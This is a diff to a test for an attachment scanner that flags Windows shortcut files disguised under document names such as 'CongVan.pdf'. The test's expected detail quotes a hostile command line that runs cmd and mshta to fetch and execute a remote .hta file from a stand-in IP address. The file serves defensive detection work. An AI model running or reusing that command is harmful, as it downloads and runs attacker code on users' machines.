@@ -86,7 +86,8 @@ describe('a shortcut under any name, anywhere', () => {
 
   it.each(['CongVan.pdf', 'invoice', 'Hoa don.lnk'])('%s: a shortcut that runs cmd, its target and arguments in the detail', async (name) => {
     const [f] = (await dangerous(name, CMD_LNK)).filter((x) => x.kind === 'attachment.dangerous-type');
-    expect(f?.tags).toEqual(['lnk', 'runs-command', 'runs-cmd', 'runs-mshta', 'web-address']);
+    // under a document's name it is also 'disguised' (checks.ts); the shortcut's own tags follow
+    expect(f?.tags).toEqual(['lnk', ...(name.endsWith('.pdf') ? ['disguised'] : []), 'runs-command', 'runs-cmd', 'runs-mshta', 'web-address']);
     expect(f?.detail).toContain('the shortcut runs C:\\Windows\\System32\\cmd.exe /c start /min mshta http://198.51.100.7/cong-van.hta');
   });
 
